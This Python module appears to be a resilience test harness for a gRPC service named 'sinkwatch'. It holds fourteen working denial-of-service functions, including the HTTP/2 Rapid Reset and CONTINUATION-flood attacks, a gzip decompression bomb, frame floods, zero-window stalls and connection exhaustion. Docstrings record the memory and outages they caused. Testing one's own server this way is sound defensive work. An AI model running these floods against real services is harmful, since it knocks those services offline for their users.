"""What a client that means harm may do to the gRPC port: a function each.

Each takes the port and for how many seconds to go on, and returns how much it
got through. None of them needs a name or a password.
"""

import gzip
import socket
import struct
import time

from client import text
from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
                    RST_STREAM, SETTINGS, Connection, call, field, frame,
                    message, request_headers)

LIST_RUNS = "/sinkwatch.v1.QueryService/ListRuns"
ADD_RUN = "/sinkwatch.v1.AdminService/AddRun"
STREAM = "/sinkwatch.v1.WorkerService/StreamMeasurement"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


class Repeated:
    """Goes on saying something, on a new connection where one was closed."""

    def __init__(self, port, seconds, connections=1):
        self.port = port
        self.end = time.monotonic() + seconds
        self.connections = [self.connect() for _ in range(connections)]
        self.closed = 0

    def connect(self):
        try:
            return Connection(self.port)
        except OSError:
            time.sleep(0.05)
            return None

    def run(self, hello, turn):
        """turn(i) is what is sent in turn i; `hello` begins a connection."""
        turns = [0] * len(self.connections)
        for connection in self.connections:
            if connection:
                connection.send(hello)
        while time.monotonic() < self.end:
            for i, connection in enumerate(self.connections):
                if (connection and connection.send(turn(turns[i])) and
                        connection.drain()):
                    turns[i] += 1
                    continue
                if connection:
                    connection.close()
                self.closed += 1
                turns[i] = 0
                self.connections[i] = self.connect()
                if self.connections[i]:
                    self.connections[i].send(hello)
        for connection in self.connections:
            if connection:
                connection.close()
        return sum(turns)


def calls_as_fast_as_can_be(port, seconds):
    """A thread a call: 32,125 threads, 5.8 GB."""
    return Repeated(port, seconds, 4).run(b"", lambda turn: b"".join(
        call(LIST_RUNS, 200 * turn + 2 * i + 1) for i in range(100)))


def calls_that_are_reset(port, seconds):
    """CVE-2023-44487."""
    def turn(n):
        return b"".join(
            frame(HEADERS, END_HEADERS, 200 * n + 2 * i + 1,
                  request_headers(LIST_RUNS)) +
            frame(RST_STREAM, 0, 200 * n + 2 * i + 1, struct.pack(">I", 8))
            for i in range(100))
    return Repeated(port, seconds, 2).run(b"", turn)


def connections_that_are_closed_with_calls(port, seconds):
    """The same by the connection: a thousand calls, and it is gone."""
    end, turns = time.monotonic() + seconds, 0
    calls = b"".join(call(LIST_RUNS, 2 * i + 1) for i in range(1000))
    while time.monotonic() < end:
        try:
            connection = Connection(port)
        except OSError:
            continue
        connection.send(calls)
        connection.close()
        turns += 1
    return turns


def header_fields_without_end(port, seconds):
    """CVE-2024-27316: 5.4 GB in 8 s."""
    more = frame(CONTINUATION, 0, 1, field("x" * 10, "y" * 16000)) * 16
    return Repeated(port, seconds).run(
        frame(HEADERS, 0, 1, request_headers(LIST_RUNS)), lambda turn: more)


def a_header_field_without_end(port, seconds):
    hello = frame(HEADERS, 0, 1, request_headers(LIST_RUNS) +
                  b"\x00\x01a\x7f\xff\xff\xff\x7f")
    more = frame(CONTINUATION, 0, 1, b"y" * 16000) * 16
    return Repeated(port, seconds).run(hello, lambda turn: more)


def a_message_of_a_gibibyte(port, seconds):
    """1.4 GB before it was refused."""
    hello = frame(HEADERS, END_HEADERS, 1, request_headers(LIST_RUNS)) + \
        frame(DATA, 0, 1, message(b"x" * 1000, 1 << 30))
    more = frame(DATA, 0, 1, b"x" * 16384) * 8
    return Repeated(port, seconds).run(hello, lambda turn: more)


def messages_that_inflate(port, seconds):
    """A tenth of a megabyte each that says it is a hundred, compressed: nobody
    else was answered for half a minute."""
    packed = gzip.compress(bytes(100 << 20))
    parts = message(packed)
    parts = [b"\x01" + parts[1:16384]] + \
        [parts[i:i + 16384] for i in range(16384, len(parts), 16384)]
    fields = request_headers(LIST_RUNS) + field("grpc-encoding", "gzip")

    def turn(n):
        stream = 2 * n + 1
        return frame(HEADERS, END_HEADERS, stream, fields) + b"".join(
            frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part)
            for part in parts)
    return Repeated(port, seconds, 6).run(b"", turn)


def many_messages_that_never_end(port, seconds):
    """Fifteen of the sixteen megabytes that a message may have, 400 times."""
    hello = b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(LIST_RUNS)) +
        frame(DATA, 0, 2 * i + 1, message(b"x" * 1000, 15 << 20))
        for i in range(400))
    return Repeated(port, seconds).run(
        hello, lambda turn: frame(DATA, 0, 2 * (turn % 400) + 1, b"x" * 16384))


def measurements_of_no_lease(port, seconds):
    """16 streams of 125 MB each, looked at only at the commit: 1.9 GB."""
    begin = text(1, b"\x08\x01\x10\x01")
    layer = text(2, text(1, text(1, "A") + text(
        2, "m") + text(4, b"\0\0\0\0" * 100_000)))
    hello = b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers(STREAM)) +
        frame(DATA, 0, stream, message(begin)) for stream in range(1, 33, 2))
    part = message(layer)
    chunks = [part[i:i + 16384] for i in range(0, len(part), 16384)]

    def turn(n):
        stream = 2 * (n % 16) + 1
        return b"".join(frame(DATA, 0, stream, chunk) for chunk in chunks)
    return Repeated(port, seconds).run(hello, turn)


def runs_without_end(port, seconds):
    """2,000 were taken, 11 ms each, and kept."""
    def turn(n):
        run = text(1, f"run{n}-{time.monotonic_ns()}") + \
            text(2, "/nowhere") + text(3, "/nowhere")
        return call(ADD_RUN, 2 * n + 1, text(1, run) + b"\x10\x01")
    return Repeated(port, seconds).run(b"", turn)


def small_frames(port, seconds):
    flood = frame(PING, 0, 0, b"8 bytes.") * 500 + frame(SETTINGS, 0, 0) * 500
    return Repeated(port, seconds, 2).run(b"", lambda turn: flood)


def answers_that_nobody_reads(port, seconds):
    """Windows of 0 bytes: answers are made and cannot be sent."""
    closed_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    return Repeated(port, seconds, 2).run(
        closed_window, lambda turn: b"".join(
            call(LIST_RUNS, 20 * turn + 2 * i + 1) for i in range(10)))


def reflection_streams(port, seconds):
    """Reflection has a thread for each stream."""
    return Repeated(port, seconds).run(b"", lambda turn: b"".join(
        frame(HEADERS, END_HEADERS, 20 * turn + 2 * i + 1,
              request_headers(REFLECTION)) for i in range(10)))


def connections_that_say_nothing(port, seconds):
    """As many as there are descriptors: it never accepted again."""
    end = time.monotonic() + seconds
    held = []
    while time.monotonic() < end and len(held) < 1300:
        try:
            held.append(socket.create_connection(("127.0.0.1", port), 5))
        except OSError:
            time.sleep(0.01)
    for connection in held:
        connection.close()
    return len(held)


ATTACKS = [
    calls_as_fast_as_can_be, calls_that_are_reset,
    connections_that_are_closed_with_calls, header_fields_without_end,
    a_header_field_without_end, a_message_of_a_gibibyte, messages_that_inflate,
    many_messages_that_never_end, measurements_of_no_lease, runs_without_end,
    small_frames, answers_that_nobody_reads, reflection_streams,
    connections_that_say_nothing,
]
